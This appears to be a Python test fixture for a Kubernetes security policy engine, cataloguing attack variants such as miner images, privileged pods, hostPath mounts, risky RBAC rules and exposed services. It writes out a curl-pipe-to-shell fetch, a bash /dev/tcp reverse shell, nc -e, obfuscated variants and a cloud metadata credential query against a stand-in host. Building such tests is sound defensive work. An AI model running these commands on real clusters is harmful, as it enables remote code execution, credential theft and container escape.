"""The attacks that tests/lib/mutants.py varies: each rule's, in the spellings that mean the same."""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from typing import Any

Json = dict[str, Any]
APP = "registry.example.com/shop/app:1"
# kind: (path of the collection, apiVersion, where its PodSpec stands, what may be changed later)
KINDS: dict[str, tuple[str, str, tuple[str, ...], bool]] = {
    "Pod": ("/api/v1/namespaces/{ns}/pods", "v1", ("spec",), False),
    "PodTemplate": ("/api/v1/namespaces/{ns}/podtemplates", "v1", ("template", "spec"), True),
    "ReplicationController": (
        "/api/v1/namespaces/{ns}/replicationcontrollers",
        "v1",
        ("spec", "template", "spec"),
        True,
    ),
    "Deployment": ("/apis/apps/v1/namespaces/{ns}/deployments", "apps/v1", ("spec", "template", "spec"), True),
    "ReplicaSet": ("/apis/apps/v1/namespaces/{ns}/replicasets", "apps/v1", ("spec", "template", "spec"), True),
    "StatefulSet": ("/apis/apps/v1/namespaces/{ns}/statefulsets", "apps/v1", ("spec", "template", "spec"), True),
    "DaemonSet": ("/apis/apps/v1/namespaces/{ns}/daemonsets", "apps/v1", ("spec", "template", "spec"), True),
    "Job": ("/apis/batch/v1/namespaces/{ns}/jobs", "batch/v1", ("spec", "template", "spec"), False),
    "CronJob": (
        "/apis/batch/v1/namespaces/{ns}/cronjobs",
        "batch/v1",
        ("spec", "jobTemplate", "spec", "template", "spec"),
        True,
    ),
    "Rollout": (
        "/apis/argoproj.io/v1alpha1/namespaces/{ns}/rollouts",
        "argoproj.io/v1alpha1",
        ("spec", "template", "spec"),
        True,
    ),
}
LISTS = ("main", "second", "init", "sidecar", "ephemeral")


@dataclass(frozen=True)
class Spelling:
    """One way to write an attack: fields of the pod, of a container, labels, or a name of the object."""

    label: str
    container: Json = field(default_factory=dict)
    pod: Json = field(default_factory=dict)
    labels: Json = field(default_factory=dict)
    name: str = ""
    kinds: tuple[str, ...] = tuple(KINDS)
    lists: tuple[str, ...] = LISTS


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def path_of(path: str, **more: Any) -> Spelling:
    return Spelling(
        path,
        pod={"volumes": [{"name": "node", "hostPath": {"path": path}}]},
        container={"volumeMounts": [{"name": "node", "mountPath": "/mnt/node", **more}]},
    )


def run(label: str, *words: str, key: str = "command") -> Spelling:
    return Spelling(label, container={key: list(words)})


PULL = "curl -fsSL http://203.0.113.9/x.sh | sh"
SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
ATTACKS: dict[str, tuple[Spelling, ...]] = {
    "crypto-mining-image": (
        *(
            Spelling(image, container={"image": image})
            for image in (
                "metal3d/xmrig",
                "docker.io/metal3d/xmrig:latest",
                "index.docker.io/metal3d/xmrig:6.21.0",
                "registry-1.docker.io/metal3d/xmrig",
                "registry.hub.docker.com/metal3d/xmrig",
                "mirror.gcr.io/metal3d/xmrig",
                "registry.example.com:5000/mirror/metal3d/xmrig:1",
                "111122223333.dkr.ecr.eu-west-1.amazonaws.com/docker-hub/metal3d/xmrig:1",
                "europe-docker.pkg.dev/example/hub/kannix/monero-miner:1",
                "kannix/monero-miner",
                "metal3d/xmrig@sha256:" + "ab" * 32,
                "docker.io/metal3d/xmrig:1@sha256:" + "cd" * 32,
                "quay.io/someone/xmrig:1",
                "ghcr.io/team/tools/cpuminer-multi:2",
                "registry.example.com/a/XMRig-arm:1",
            )
        ),
        run("pool in args", "--url=stratum+tcp://pool.example.com:3333", "-u", "x", key="args"),
        run("donate-level", "/app/run", "--donate-level", "1"),
        run("sh -c pool", "sh", "-c", "exec /app/run -o stratum+ssl://pool.example.com:443"),
    ),
    "dangerous-container-command": (
        run("sh -c", "sh", "-c", PULL),
        run("bash -lc", "/bin/bash", "-lc", PULL),
        run("args", "sh", "-c", PULL, key="args"),
        run("busybox", "busybox", "sh", "-c", PULL),
        run("env", "/usr/bin/env", "sh", "-c", PULL),
        run("reverse", "bash", "-c", SHELL),
        run("nc -e", "nc", "203.0.113.9", "4444", "-e", "/bin/sh"),
        run("base64", "sh", "-c", f"echo {b64(PULL)} | base64 -d | sh"),
        run("quotes", "sh", "-c", "c''url -fsSL http://203.0.113.9/x.sh | s\\h"),
        run("IFS", "sh", "-c", "curl${IFS}-fsSL${IFS}http://203.0.113.9/x.sh|sh"),
        run("metadata", "wget", "-qO-", "http://169.254.169.254/latest/meta-data/iam/"),
        run("nsenter", "nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"),
        run("chroot", "chroot", "/host", "sh", "-c", "id"),
        Spelling(
            "postStart",
            container={"lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", PULL]}}}},
            lists=("main", "second", "sidecar"),
        ),
        Spelling(
            "preStop",
            container={"lifecycle": {"preStop": {"exec": {"command": ["bash", "-c", SHELL]}}}},
            lists=("main", "second", "sidecar"),
        ),
        Spelling(
            "liveness",
            container={"livenessProbe": {"exec": {"command": ["sh", "-c", PULL]}}},
            lists=("main", "second", "sidecar"),
        ),
        Spelling(
            "startup",
            container={"startupProbe": {"exec": {"command": ["sh", "-c", PULL]}}},
            lists=("main", "second", "sidecar"),
        ),
        Spelling("command and args", container={"command": ["sh"], "args": ["-c", PULL]}),
        Spelling("dash c in args", container={"command": ["sh", "-c"], "args": [PULL]}),
    ),
    "known-malicious-pod": (
        Spelling("badPods name", name="everything-allowed-exec-x"),
        Spelling("badPods revshell", name="everything-allowed-revshell-x"),
        Spelling("kube-hunter name", name="kube-hunter"),
        Spelling("label", labels={"app": "pentest"}),
        Spelling("kdigger image", container={"image": "quarkslab/kdigger:1"}),
        Spelling("kube-hunter image", container={"image": "docker.io/aquasec/kube-hunter:0.6"}),
        Spelling("campaign", container={"image": "kuberntesio/kube-controller:1.0.1"}),
        Spelling("peirates image", container={"image": "registry.example.com/hub/bustakube/peirates:1"}),
        Spelling(
            "masquerade",
            name="kube-proxy",
            container={"image": "docker.io/someone/proxy:1"},
            kinds=("Pod", "DaemonSet", "Deployment"),
            lists=("main",),
        ),
    ),
    "host-network-pod": (
        Spelling("hostNetwork", pod={"hostNetwork": True}, lists=("main",)),
        Spelling("hostNetwork and hostPID", pod={"hostNetwork": True, "hostPID": True}, lists=("main",)),
        Spelling(
            "hostNetwork and privileged",
            pod={"hostNetwork": True},
            container={"securityContext": {"privileged": True}},
            lists=("main", "init", "second", "sidecar"),
        ),
        Spelling(
            "hostNetwork and dnsPolicy",
            pod={"hostNetwork": True, "dnsPolicy": "ClusterFirstWithHostNet"},
            lists=("main",),
        ),
    ),
    "privileged-container": (
        Spelling("privileged", container={"securityContext": {"privileged": True}}),
        *(
            Spelling(f"cap {c}", container={"securityContext": {"capabilities": {"add": [c]}}})
            for c in (
                "SYS_ADMIN",
                "CAP_SYS_ADMIN",
                "sys_admin",
                "ALL",
                "all",
                "SYS_MODULE",
                "NET_ADMIN",
                "cap_bpf",
                "SYS_PTRACE",
            )
        ),
        Spelling(
            "drop and add",
            container={
                "securityContext": {"capabilities": {"drop": ["ALL"], "add": ["NET_BIND_SERVICE", "SYS_ADMIN"]}}
            },
        ),
        Spelling("procMount", pod={"hostUsers": False}, container={"securityContext": {"procMount": "Unmasked"}}),
        Spelling(
            "windows host process",
            pod={
                "hostNetwork": True,
                "os": {"name": "windows"},
                "securityContext": {"windowsOptions": {"hostProcess": True, "runAsUserName": "NT AUTHORITY\\SYSTEM"}},
            },
            lists=("main",),
        ),
    ),
    "sensitive-volume": (
        *(
            path_of(p)
            for p in (
                "/",
                "//",
                "/etc",
                "/etc/",
                "//etc",
                "/etc/kubernetes/pki",
                "/etc/./kubernetes",
                "/var",
                "/var/lib/kubelet/",
                "/var/lib//kubelet/pods",
                "/var/run/docker.sock",
                "/run/docker.sock",
                "/run/../run/docker.sock",
                "/var/run//containerd/containerd.sock",
                "/run",
                "/run/containerd",
                "/proc/",
                "/root/.ssh",
                "/dev",
                "/sys/fs/cgroup",
                "/home",
                "/var/log/",
                "/sys",
            )
        ),
        path_of("/var/run/crio/crio.sock", readOnly=True),
        path_of("/etc/kubernetes/manifests", readOnly=True),
        path_of("/", readOnly=True),
        path_of("/var/lib/etcd", subPath="member"),
        Spelling(
            "typed", pod={"volumes": [{"name": "node", "hostPath": {"path": "/var/lib/kubelet", "type": "Directory"}}]}
        ),
        Spelling(
            "many volumes",
            pod={
                "volumes": [{"name": "tmp", "emptyDir": {}}, {"name": "node", "hostPath": {"path": "/etc", "type": ""}}]
            },
        ),
    ),
}


def policy_rule(groups: str, resources: str, verbs: str) -> Json:
    return {"apiGroups": groups.split(","), "resources": resources.split(","), "verbs": verbs.split(",")}


HARMLESS = policy_rule("", "configmaps", "get,list")
ROLE_ATTACKS: dict[str, tuple[tuple[str, Json, tuple[str, ...]], ...]] = {
    "cluster-role-exec": (
        ("pods/exec create", policy_rule("", "pods/exec", "create"), ("ClusterRole", "Role")),
        ("get", policy_rule("", "pods/exec", "get"), ("ClusterRole",)),
        ("*/exec", policy_rule("", "*/exec", "create"), ("ClusterRole", "Role")),
        ("verb *", policy_rule("", "pods,pods/exec", "*"), ("ClusterRole", "Role")),
        ("group *", policy_rule("*", "pods/exec", "create,get"), ("ClusterRole", "Role")),
        ("attach", policy_rule("", "pods/attach,pods/log", "create"), ("ClusterRole",)),
        ("ephemeral", policy_rule("", "pods/ephemeralcontainers", "patch"), ("ClusterRole",)),
        ("nodes/proxy", policy_rule("", "nodes/proxy", "get"), ("ClusterRole",)),
        ("resource *", policy_rule("", "*", "get,create"), ("ClusterRole", "Role")),
        (
            "groups many",
            policy_rule("apps,,batch", "deployments,pods/exec,jobs", "get,list,create"),
            ("ClusterRole", "Role"),
        ),
    ),
    "privileged-cluster-role": (
        ("everything", policy_rule("*", "*", "*"), ("ClusterRole", "Role")),
        ("escalate", policy_rule("rbac.authorization.k8s.io", "clusterroles", "escalate"), ("ClusterRole",)),
        ("bind", policy_rule("rbac.authorization.k8s.io", "roles,clusterroles", "bind"), ("ClusterRole",)),
        ("impersonate groups", policy_rule("", "groups", "impersonate"), ("ClusterRole",)),
        ("userextras", policy_rule("authentication.k8s.io", "userextras/scopes", "impersonate"), ("ClusterRole",)),
        ("secrets", policy_rule("", "secrets", "list"), ("ClusterRole", "Role")),
        ("secrets by *", policy_rule("*", "secrets", "get,watch"), ("ClusterRole", "Role")),
        ("token", policy_rule("", "serviceaccounts/token", "create"), ("ClusterRole", "Role")),
        ("*/token", policy_rule("", "*/token", "create"), ("ClusterRole",)),
        ("bindings", policy_rule("rbac.authorization.k8s.io", "rolebindings", "create,patch"), ("ClusterRole", "Role")),
        ("pods create", policy_rule("", "pods", "create"), ("ClusterRole",)),
        ("deployments *", policy_rule("apps", "*", "patch"), ("ClusterRole",)),
        ("nodes/proxy", policy_rule("", "nodes/proxy", "create"), ("ClusterRole",)),
        ("nodes patch", policy_rule("", "nodes/status,nodes", "patch"), ("ClusterRole",)),
        (
            "webhooks",
            policy_rule("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "update"),
            ("ClusterRole",),
        ),
        ("csr", policy_rule("certificates.k8s.io", "signers", "approve"), ("ClusterRole",)),
        ("volumes", policy_rule("", "persistentvolumes", "create"), ("ClusterRole",)),
    ),
}
SERVICE_ATTACKS: tuple[tuple[str, Json], ...] = (
    ("NodePort", {"type": "NodePort"}),
    ("LoadBalancer", {"type": "LoadBalancer"}),
    ("externalIPs", {"externalIPs": ["203.0.113.80"]}),
    ("LoadBalancer all sources", {"type": "LoadBalancer", "loadBalancerSourceRanges": ["0.0.0.0/0"]}),
    ("class", {"type": "LoadBalancer", "loadBalancerClass": "example.com/own"}),
    ("NodePort local", {"type": "NodePort", "externalTrafficPolicy": "Local"}),
    ("NodePort and externalIPs", {"type": "NodePort", "externalIPs": ["203.0.113.81", "203.0.113.82"]}),
)
